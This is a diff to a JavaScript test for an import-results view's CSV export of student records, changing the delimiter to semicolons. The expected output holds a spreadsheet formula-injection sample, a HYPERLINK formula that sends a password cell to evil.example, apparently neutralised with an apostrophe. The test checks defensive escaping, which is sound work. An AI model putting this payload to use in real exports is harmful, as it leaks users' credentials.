@@ -37,9 +37,9 @@ describe('ImportResultView', () => {
     const bytes = await blobBytes(createObjectURL.mock.calls[0][0] as Blob);
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
     expect(text.replace(/^\uFEFF/, '')).toBe(
-      'name,nis,grade,initial_password\r\n' +
-        `"'=HYPERLINK(""https://evil.example/?pw=""&D2,""Nilai"")",2024100101,10,pw-evil-1\r\n` +
-        '"Siti; Rahma",2024100102,11,pw-siti-2\r\n',
+      'name;nis;grade;initial_password\r\n' +
+        `"'=HYPERLINK(""https://evil.example/?pw=""&D2,""Nilai"")";2024100101;10;pw-evil-1\r\n` +
+        '"Siti; Rahma";2024100102;11;pw-siti-2\r\n',
     );
     expect(text.startsWith('\uFEFF')).toBe(true);
     click.mockRestore();
